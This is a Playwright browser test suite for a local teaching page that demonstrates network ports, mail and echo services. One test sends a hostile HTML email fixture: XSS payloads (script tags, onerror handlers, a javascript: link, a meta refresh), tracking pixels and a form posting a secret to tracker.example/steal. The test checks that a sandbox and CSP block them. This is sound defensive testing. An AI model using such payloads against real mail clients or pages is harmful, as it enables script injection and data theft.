import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, onTestFinished } from "vitest";
import type { Browser, Page, Request } from "playwright-core";
import { launchChromium } from "./chromium.js";
import { startSwitchboardHost, type SwitchboardHost } from "./switchboard-host.js";

let host: SwitchboardHost;
let browser: Browser;
let page: Page;
/** Console errors and uncaught exceptions, from the page or any frame in it. */
let errors: string[];
/** Console errors that a test expects (the sandbox reporting what it blocked); checked by that test. */
let expectedErrors: RegExp | undefined;
let blockedReports: string[];
/** Every request for a host other than this machine that was not stopped before it left. */
let outside: Set<Request>;
let blockedRequests: string[];

const LOOPBACK = new Set(["127.0.0.1", "localhost", "[::1]"]);

async function openPage(viewport = { width: 1280, height: 800 }, javaScriptEnabled = true): Promise<Page> {
  const context = await browser.newContext({ viewport, javaScriptEnabled });
  const opened = await context.newPage();
  opened.on("console", (message) => {
    if (message.type() !== "error") return;
    const line = `${message.location().url}: ${message.text()}`;
    if (expectedErrors?.test(line)) blockedReports.push(line);
    else errors.push(line);
  });
  opened.on("pageerror", (error) => errors.push(`uncaught: ${error.message}`));
  opened.on("request", (request) => {
    const url = new URL(request.url());
    if (!["data:", "blob:", "about:"].includes(url.protocol) && !LOOPBACK.has(url.hostname)) outside.add(request);
  });
  // Chromium announces a request before its CSP check; one the policy stopped never left.
  opened.on("requestfailed", (request) => {
    if (request.failure()?.errorText === "csp" && outside.delete(request)) {
      blockedRequests.push(request.url());
    }
  });
  await opened.goto(host.url);
  return opened;
}

function post<T>(path: string, body: unknown): Promise<T> {
  return fetch(`${host.url}${path}`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  }).then((r) => r.json() as Promise<T>);
}

/** The live-traffic row for a connection from a given client port to a given server port. */
function flowRow(p: Page, clientPort: number, serverPort: number, transport = "tcp") {
  return p
    .locator("#flows li.flow")
    .filter({ has: p.locator(".flow-client", { hasText: new RegExp(`:${clientPort}$`) }) })
    .filter({ has: p.locator(".flow-port", { hasText: `${serverPort}/${transport}` }) });
}

beforeAll(async () => {
  browser = await launchChromium();
  host = await startSwitchboardHost();
});
afterAll(async () => {
  await browser?.close();
  await host?.close();
});
beforeEach(() => {
  errors = [];
  outside = new Set();
  blockedRequests = [];
  blockedReports = [];
  expectedErrors = undefined;
});
afterEach(async () => {
  await page?.context().close();
  expect(errors, "console errors").toEqual([]);
  expect(
    [...outside].map((r) => r.url()),
    "requests that left this machine",
  ).toEqual([]);
});

describe("the switchboard page in Chromium", () => {
  it("explains the page and lists the services before any script runs", async () => {
    page = await openPage(undefined, false);
    await expect.poll(() => page.locator("h1").textContent()).toBe("porthost");
    const sockets = await page.locator("#sockets").textContent();
    for (const text of ["8080", "http", "8025", "smtp", "8110", "pop3", "8007", "echo", "8009", "discard"]) {
      expect(sockets).toContain(text);
    }
    for (const title of ["The host", "Live traffic", "Inbox", "Try it", "Port lookup", "Ports, explained"]) {
      await page.getByRole("heading", { name: title, exact: true }).waitFor();
    }
  });

  it("shows every service's live port and status, and explains the one selected", async () => {
    page = await openPage();
    for (const name of ["http", "https", "smtp", "pop3", "echo", "discard"] as const) {
      const socket = page.locator(`button.socket[data-service="${name}"]`);
      await expect.poll(() => socket.locator(".socket-port").textContent()).toBe(String(host.ports[name]));
      expect(await socket.getAttribute("data-status")).toBe("up");
    }
    await page.locator('button.socket[data-service="smtp"]').click();
    const detail = page.locator("#socket-detail");
    await detail.getByText("Simple Mail Transfer Protocol (SMTP) email delivery").waitFor();
    expect(await detail.locator("pre").textContent()).toContain(`swaks --server 127.0.0.1:${host.ports.smtp}`);
    expect(await detail.textContent()).toContain("system (well-known) ports, 0-1023");
  });

  it("delivers a mail sent from the page to the inbox and the live traffic, without a reload", async () => {
    page = await openPage();
    await page.locator(".stream-status[data-state=live]").waitFor();
    // Expressions as strings: this file is compiled without the DOM's types.
    await page.evaluate("window.sameDocument = true");
    const subject = `Over port ${host.ports.smtp}, ${Date.now()}`;
    await page.locator("#send-to").fill("learner@example.test");
    await page.locator("#send-subject").fill(subject);
    await page.locator("#send-text").fill("Hello through the switchboard.");
    await page.getByRole("button", { name: "Send", exact: true }).click();
    const result = page.locator("#try-send-result[data-state=done]");
    await result.waitFor();
    expect(await result.textContent()).toContain("250");
    const localPort = Number(await result.locator(".ephemeral").textContent());
    expect(localPort).toBeGreaterThan(1023);

    // The SMTP connection appears in the live traffic, from the web service's ephemeral port...
    const row = flowRow(page, localPort, host.ports.smtp);
    await row.waitFor();
    expect(await row.locator(".flow-service").textContent()).toBe("smtp");
    expect(await row.getAttribute("data-outcome")).toBe("ok");
    expect(await row.locator(".flow-detail").textContent()).toBe("1 stored");
    expect(await page.locator(`.counters li[data-port="${host.ports.smtp}/tcp"] .counter-count`).textContent()).toMatch(
      /^[1-9]\d*$/,
    );
    // ...and the message in the inbox, with the envelope that names both ports.
    const item = page.locator("#message-list .message-item", { hasText: subject });
    await item.waitFor();
    await item.click();
    const message = page.locator("article.message");
    await message.locator("#message-subject", { hasText: subject }).waitFor();
    expect(await message.locator(".envelope-client").textContent()).toBe(`127.0.0.1:${localPort}`);
    expect(await message.locator(".envelope-server").textContent()).toBe(`127.0.0.1:${host.ports.smtp}`);
    expect(await message.locator(".mail-text").textContent()).toContain("Hello through the switchboard.");
    await message.getByRole("tab", { name: "Headers" }).click();
    expect(await message.locator(".mail-headers").textContent()).toContain(subject);
    await message.getByRole("tab", { name: "Raw source" }).click();
    await message.locator(".mail-raw", { hasText: "Received: from" }).waitFor();
    expect(await page.evaluate("window.sameDocument")).toBe(true);
  });

  it("searches the inbox, deletes one message, then all", async () => {
    const tag = `needle-${Date.now()}`;
    await post("/api/send", { to: "a@example.test", subject: `${tag} first` });
    await post("/api/send", { to: "b@example.test", subject: "another subject" });
    page = await openPage();
    await page.locator("#message-list .message-item", { hasText: "another subject" }).waitFor();
    await page.locator("#inbox-search").fill(tag);
    await expect.poll(() => page.locator("#message-list .message-item").count()).toBe(1);
    await page.locator("#message-list .message-item", { hasText: `${tag} first` }).click();
    await page.getByRole("button", { name: "Delete this message" }).click();
    await page.locator(".inbox-count", { hasText: `No message matches “${tag}”.` }).waitFor();
    await page.locator("#inbox-search").fill("");
    await page.getByRole("button", { name: "Refresh" }).click();
    await page.locator("#message-list .message-item", { hasText: "another subject" }).waitFor();
    await page.getByRole("button", { name: "Delete all" }).click();
    await page.getByRole("button", { name: /^Really delete all \d+\?$/ }).click();
    await page.locator(".inbox-count", { hasText: "No mail yet" }).waitFor();
    const left = await (await fetch(`${host.url}/api/messages`)).json();
    expect(left).toMatchObject({ total: 0 });
  });

  it("does an echo round trip over UDP and TCP, each from the ephemeral port it shows", async () => {
    page = await openPage();
    for (const transport of ["udp", "tcp"] as const) {
      const text = `ping over ${transport} ${Date.now()}`;
      await page.locator("#echo-text").fill(text);
      await page.locator(`#echo-${transport}`).check();
      await page.getByRole("button", { name: "Send and wait for the echo" }).click();
      const result = page.locator("#try-echo-result[data-state=done]");
      await result.locator(".echoed", { hasText: text }).waitFor();
      expect(await result.locator(".echoed").textContent()).toBe(text);
      const from = await result.locator(".ephemeral").textContent();
      const clientPort = Number(/:(\d+)$/.exec(from ?? "")?.[1]);
      expect(clientPort).toBeGreaterThan(1023);
      const row = flowRow(page, clientPort, host.ports.echo, transport);
      await row.waitFor();
      expect(await row.locator(".flow-service").textContent()).toBe("echo");
      await page.locator("#try-echo-result[data-state=busy]").waitFor({ state: "detached" });
    }
  });

  it("shows the browser's own ephemeral port (whoami) and looks up ports and names", async () => {
    page = await openPage();
    const whoami = page.locator("#try-whoami-result[data-state=done]");
    await whoami.waitFor();
    const client = await whoami.locator(".ephemeral").textContent();
    const port = Number(/^127\.0\.0\.1:(\d+)$/.exec(client ?? "")?.[1]);
    expect(port).toBeGreaterThan(1023);
    await flowRow(page, port, host.ports.http).filter({ hasText: "GET /api/whoami 200" }).waitFor();

    await page.locator("#lookup-query").fill("443");
    await page.locator("#lookup-query").press("Enter");
    await page.locator("#lookup-result h3", { hasText: "Port 443" }).waitFor();
    expect(await page.locator("#lookup-result").textContent()).toContain("https");
    await page.locator("#lookup-query").fill("smtp");
    await page.getByRole("button", { name: "Look up" }).click();
    await page.locator("#lookup-result", { hasText: `smtp listens on ${host.ports.smtp} here` }).waitFor();
  });

  it("filters by service, and a pause holds new rows until resumed without losing any", async () => {
    page = await openPage();
    await page.locator(".stream-status[data-state=live]").waitFor();
    await page.locator("#traffic-filter").selectOption("echo");
    const rows = page.locator("#flows li.flow");
    await page.getByRole("button", { name: "Pause" }).click();
    const before = await rows.count();
    const echo = await post<{ local: { port: number } }>("/api/echo", { text: "while paused", transport: "udp" });
    await page.getByRole("button", { name: /^Resume \(\d+ new\)$/ }).waitFor();
    expect(await rows.count()).toBe(before);
    expect(await flowRow(page, echo.local.port, host.ports.echo, "udp").count()).toBe(0);
    await page.getByRole("button", { name: /^Resume/ }).click();
    await flowRow(page, echo.local.port, host.ports.echo, "udp").waitFor();
    expect(new Set(await rows.evaluateAll((li) => li.map((e) => e.getAttribute("data-service"))))).toEqual(
      new Set(["echo"]),
    );
  });

  it("says so when the event stream drops, and resumes when the web service is back", async () => {
    page = await openPage();
    const status = page.locator(".stream-status");
    await page.locator(".stream-status[data-state=live]").waitFor();
    // While the service is away, the browser's reconnect attempts fail: those errors are the point.
    // A request that arrives while fastify closes is answered 503 (its return503OnClosing).
    expectedErrors =
      /\/api\/events\/stream|ERR_CONNECTION_REFUSED|ERR_INCOMPLETE_CHUNKED_ENCODING|status of 503 \(Service Unavailable\)/;
    const restart = host.restartWeb(1_500);
    await page.locator(".stream-status[data-state=reconnecting]").waitFor();
    expect(await status.textContent()).toMatch(/dropped at .*reconnecting/);
    await restart;
    await page.locator(".stream-status[data-state=live]").waitFor({ timeout: 15_000 });
    expect(await status.textContent()).toContain("Live again");
    expectedErrors = undefined;
    const echo = await post<{ local: { port: number } }>("/api/echo", { text: "after the restart", transport: "tcp" });
    await flowRow(page, echo.local.port, host.ports.echo).waitFor();
  });

  it("shows a hostile HTML mail in a sandbox: no script runs, nothing remote loads", async () => {
    // A real server on another address stands for the tracker: it must never hear from the mail.
    const trackerHits: string[] = [];
    const tracker = http.createServer((request, response) => {
      trackerHits.push(request.url ?? "");
      response.end("gotcha");
    });
    await new Promise<void>((resolve) => tracker.listen(0, "127.0.0.2", resolve));
    const remote = `http://127.0.0.2:${(tracker.address() as AddressInfo).port}`;
    onTestFinished(() => new Promise<void>((resolve) => tracker.close(() => resolve())));
    const subject = `<img src=x onerror="document.title='pwned-subject'"> hostile ${Date.now()}`;
    await post("/api/send", {
      to: "victim@example.test",
      subject,
      text: "plain part",
      html: [
        "<html><head>",
        '<meta http-equiv="refresh" content="0;url=http://tracker.example/refresh">',
        '<link rel="stylesheet" href="http://tracker.example/style.css">',
        "</head><body>",
        "<p id=visible>Hostile mail body</p>",
        "<script>parent.document.title='pwned-script'; top.pwned = 'script'; document.title = 'ran';</script>",
        `<img src="x" onerror="parent.document.title='pwned-onerror'; top.pwned = 'onerror'">`,
        '<img src="http://tracker.example/pixel.gif" alt="remote">',
        `<img src="${remote}/pixel.gif" alt="tracker"><link rel="stylesheet" href="${remote}/style.css">`,
        `<video src="${remote}/video.mp4" autoplay></video><object data="${remote}/object"></object>`,
        '<iframe src="http://tracker.example/frame"></iframe>',
        "<a id=js href=\"javascript:parent.document.title='pwned-link'; top.pwned = 'link'\">click me</a>",
        '<form action="http://tracker.example/steal"><input name=q value=secret><button id=go>go</button></form>',
        "</body></html>",
      ].join("\n"),
    });
    // What the sandbox and the CSP block, Chromium reports as console errors: expected here, and only these.
    expectedErrors =
      /^(?=.*(\/api\/messages\/[^/]+\/html|tracker\.example|127\.0\.0\.2)).*(Blocked|Refused|violates|sandbox)/i;
    page = await openPage();
    const title = await page.title();
    const item = page.locator("#message-list .message-item", { hasText: "hostile" });
    await item.waitFor();
    // The subject is text: the markup in it shows as written and makes no element.
    expect(await item.locator(".message-subject").textContent()).toBe(subject);
    expect(await page.locator("#message-list img").count()).toBe(0);
    await item.click();
    const iframe = page.locator("iframe.mail-html");
    await iframe.waitFor();
    expect(await iframe.getAttribute("sandbox")).toBe("");
    const frame = page.frameLocator("iframe.mail-html");
    await frame.locator("#visible", { hasText: "Hostile mail body" }).waitFor();
    await frame.locator("#js").click();
    await frame.locator("#go").click();
    await page.waitForTimeout(500); // let a refresh, a navigation or a late error show itself, if any would
    expect(await page.title()).toBe(title);
    expect(await page.evaluate("window.pwned")).toBeUndefined();
    const inner = page.frames().find((f) => f.url().endsWith("/html"));
    expect(inner, "the mail frame stayed on its own URL").toBeDefined();
    expect(await frame.locator("#visible").textContent()).toBe("Hostile mail body");
    expect(trackerHits).toEqual([]);
    // Chromium reports what the sandbox and the CSP blocked: proof they were in force.
    const reports = blockedReports.join("\n");
    expect(reports).toMatch(/Blocked script execution/);
    expect(reports).toMatch(/Refused to execute the redirect/);
    expect(reports).toMatch(/Blocked form submission/);
    expect(blockedRequests).toEqual(
      expect.arrayContaining([`${remote}/pixel.gif`, "http://tracker.example/pixel.gif"]),
    );
  });

  it("fits a 360 px wide screen and is usable from the keyboard", async () => {
    page = await openPage({ width: 360, height: 740 });
    await page.locator('button.socket[data-service="echo"]').waitFor();
    expect(await page.evaluate<number>("document.documentElement.scrollWidth")).toBeLessThanOrEqual(360);
    // Tab from the top of the page to the first socket, then open it with Enter.
    let focused = "";
    for (let i = 0; i < 20 && focused !== "http"; i++) {
      await page.keyboard.press("Tab");
      focused = await page.evaluate<string>("document.activeElement?.dataset?.service ?? ''");
    }
    expect(focused).toBe("http");
    await page.keyboard.press("Enter");
    await page.locator("#socket-detail h3", { hasText: `${host.ports.http}: http` }).waitFor();
    expect(await page.evaluate<number>("document.documentElement.scrollWidth")).toBeLessThanOrEqual(360);
  });
});
